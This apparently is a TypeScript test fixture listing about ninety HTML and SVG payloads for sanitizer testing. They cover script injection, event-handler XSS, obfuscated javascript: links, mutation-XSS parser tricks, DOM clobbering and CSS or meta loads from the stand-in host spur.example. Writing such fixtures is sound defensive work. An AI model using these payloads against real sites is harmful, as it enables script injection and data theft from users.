/**
 * Markup that tries to run, to load or to lead away, of each kind that the filter evasion lists of the web know. What
 * runs sets `ran` in the window above and opens a dialog; what loads asks the host `spur.example`.
 */
const run = 'top.ran=1;alert(1)';
const encodedRun = [...`javascript:${run}`].map((sign) => `&#x${sign.charCodeAt(0).toString(16)}`).join('');
const svg = (inner: string) => `<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`;
const asData = (type: string, text: string) => `data:${type};base64,${Buffer.from(text).toString('base64')}`;

export const hostileMarkup: Readonly<Record<string, string>> = {
  'a script': `<script>${run}</script>`,
  'a script from elsewhere': '<script src="https://spur.example/a.js"></script>',
  'a script that is never closed': `<SCRIPT SRC=//spur.example/b.js?<B>`,
  'a script within a script': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'a slash in place of a blank': `<img/src="x"/onerror=${run.replaceAll(';', ',')}>`,
  'a picture that fails': `<img src=x onerror="${run}">`,
  'a picture without quotes around': `<IMG """><SCRIPT>${run}</SCRIPT>"\\>`,
  'a picture under the mouse': `<img src=x style="width:900px;height:900px" onmouseover="${run}">`,
  'a picture that is a script': `<img src="javascript:${run}">`,
  'a picture from elsewhere': '<img src="https://spur.example/1.png">',
  'a picture in several sizes': '<img srcset="https://spur.example/2.png 1x, https://spur.example/3.png 2x">',
  'a picture chosen by its width':
    '<picture><source srcset="//spur.example/4.png"><img src="//spur.example/5.png"></picture>',
  'an image, as nobody writes it': `<image src="https://spur.example/6.png" onerror="${run}">`,
  'an SVG that loads': `<svg onload="${run}">`,
  'an SVG with a script': svg(`<script>${run}</script>`),
  'an SVG that is animated': svg(`<animate onbegin="${run}" attributeName="x" dur="1s">`),
  'an SVG with a link': svg(`<a xlink:href="javascript:${run}"><text y="20">Hier</text></a>`),
  'an SVG with a foreign part': svg(`<foreignObject><img src=x onerror="${run}"></foreignObject>`),
  'an SVG that uses another': svg('<use href="https://spur.example/7.svg#a"></use>'),
  'an SVG as data': `<img src="${asData('image/svg+xml', svg(`<script>${run}</script>`))}">`,
  'mathematics that turn into markup': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'mathematics with a link': `<math><maction actiontype="statusline" xlink:href="javascript:${run}">Hier</maction></math>`,
  'a form that closes another': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  'markup in an attribute of noscript': `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
  'markup in a template': `<template><img src=x onerror="${run}"></template>`,
  'a template with a shadow': `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`,
  'markup in a title': `<title><img src=x onerror="${run}"></title>`,
  'markup in a text field': `<textarea></textarea><img src=x onerror="${run}">`,
  'markup in xmp': `<xmp></xmp><img src=x onerror="${run}">`,
  'a comment that ends early': `<!--><img src=x onerror="${run}">-->`,
  'a comment that ends oddly': `<!--a--!><img src=x onerror="${run}">`,
  'a comment for one program': `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  'a part that is CDATA': `<![CDATA[><img src=x onerror="${run}">]]>`,
  'a page that leads elsewhere': '<meta http-equiv="refresh" content="0;url=https://spur.example/weg">',
  'a page that leads to a script': `<meta http-equiv="refresh" content="0;url=${asData('text/html', `<script>${run}</script>`)}">`,
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  'another base': '<base href="https://spur.example/"><img src="8.png"><a href="weg">Hier</a>',
  'a style sheet from elsewhere': '<link rel="stylesheet" href="https://spur.example/a.css">',
  'something fetched in advance':
    '<link rel="prefetch" href="https://spur.example/9"><link rel="dns-prefetch" href="//spur.example">',
  'an icon': '<link rel="icon" href="https://spur.example/favicon.ico">',
  'a style sheet that imports': `<style>@import "https://spur.example/b.css"; @import url(//spur.example/c.css);</style>`,
  'a style with a picture': '<p style="background:url(https://spur.example/10.png)">Text</p>',
  'a style with a picture in escapes': '<p style="background:\\75rl(https://spur.example/11.png)">Text</p>',
  'a style with a set of pictures':
    '<p style="background-image:image-set(&quot;https://spur.example/12.png&quot; 1x)">Text</p>',
  'a style with a list sign': '<li style="list-style:url(https://spur.example/13.png)">Text</li>',
  'a style with words from elsewhere': '<p style="content:url(https://spur.example/14.png)">Text</p>',
  'a style with a typeface':
    '<style>@font-face{font-family:x;src:url(https://spur.example/a.woff2)}p{font-family:x}</style><p>Text</p>',
  'a style that ends its rule': '<p style="color:red}*{background:url(https://spur.example/15.png)">Text</p>',
  'a style that ends its element': `<p style="font-family:'</style><img src=x onerror=${run}>'">Text</p>`,
  'a style that computes': `<p style="width:expression(${run})">Text</p>`,
  'a style that covers all': '<div style="position:fixed;inset:0;z-index:9999">Alles</div>',
  'a background':
    '<table background="https://spur.example/16.png"><tr><td background="//spur.example/17.png">x</td></tr></table>',
  'a background of the page': `<body background="https://spur.example/18.png" onload="${run}">`,
  'a link that is a script': `<a href="javascript:${run}">Hier</a>`,
  'a link with a tab in it': `<a href="jav&#x09;ascript:${run}">Hier</a>`,
  'a link with lines in it': `<a href="java&#10;script&colon;${run}">Hier</a>`,
  'a link in entities': `<a href="${encodedRun}">Hier</a>`,
  'a link after a sign that nobody sees': `<a href="&#1;javascript:${run}">Hier</a>`,
  'a link in VBScript': '<a href="vbscript:MsgBox(1)">Hier</a>',
  'a link to a page as data': `<a href="${asData('text/html', `<script>${run}</script>`)}">Hier</a>`,
  'a link that reports': '<a href="#" ping="https://spur.example/19">Hier</a>',
  'a link that opens a window': '<a href="https://spur.example/20" target="_blank" rel="opener">Hier</a>',
  'a form that is sent':
    '<form action="https://spur.example/21"><input name="a" autofocus><button>Senden</button></form>',
  'a button that is a script': `<form><button formaction="javascript:${run}">Senden</button></form>`,
  'a field with a picture': '<input type="image" src="https://spur.example/22.png">',
  'a field that takes the focus': `<input autofocus onfocus="${run}">`,
  'a list that takes the focus': `<select autofocus onfocus="${run}"><option>a</select>`,
  'details that open': `<details open ontoggle="${run}">Text</details>`,
  'words that run past': `<marquee onstart="${run}">Text</marquee>`,
  'a film with a picture': `<video poster="https://spur.example/23.png" src="//spur.example/24.mp4" onerror="${run}" autoplay></video>`,
  'a film with sources': `<video><source src="//spur.example/25.mp4" onerror="${run}"></video>`,
  'a sound':
    '<audio src="https://spur.example/26.mp3" autoplay></audio><bgsound src="//spur.example/27.mid">',
  'a track of a film': '<video controls><track default src="https://spur.example/28.vtt"></video>',
  'a frame': '<iframe src="https://spur.example/29"></iframe>',
  'a frame with a page in it': `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  'a frame that is a script': `<iframe src="javascript:${run}"></iframe>`,
  'a set of frames': '<frameset><frame src="https://spur.example/30"></frameset>',
  'an object': `<object data="https://spur.example/31"></object><object data="${asData('text/html', `<script>${run}</script>`)}"></object>`,
  'something embedded':
    '<embed src="https://spur.example/32"><applet code="a" codebase="//spur.example/33"></applet>',
  'a portal and a fence':
    '<portal src="https://spur.example/34"></portal><fencedframe src="//spur.example/35"></fencedframe>',
  'names that stand in for the program':
    '<img name="querySelectorAll"><form id="body"><input name="attributes"><input name="innerHTML"></form>',
  'names that stand in for the document':
    '<a id="document"></a><img name="implementation"><a id="location" href="https://spur.example/36"></a>',
  'marks of our own':
    '<img data-picture="0"><a data-link="0" data-address="bank.example">Hier</a><p data-style="0">Text</p>',
  'signs in the name of an attribute': `<img src=x onerror\u0000="${run}"><p on\u0000click="${run}">Text</p>`,
  'an element that begins oddly': `<\u0000script>${run}</script><\u3000img src=x onerror="${run}">`,
  'two signs of smaller': `<<script>${run}//<</script>`,
  'a charset of another time': `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  'signs of ASCII seven bits wide': `\u00bcscript\u00be${run}\u00bc/script\u00be`,
  'an instruction of XML': `<?xml-stylesheet href="https://spur.example/37.xsl"?><?import implementation="//spur.example/38">`,
  'an entity of XML': '<!DOCTYPE x [<!ENTITY a SYSTEM "https://spur.example/39">]><p>&a;</p>',
  'an element of its own': `<x-a is="x-b" onfocus="${run}" tabindex=0 autofocus>Text</x-a>`,
  'something that pops over': `<button popovertarget=a autofocus>a</button><div popover id=a onbeforetoggle="${run}">Text</div>`,
  'something that slides in': `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${run}">Text</p>`,
};
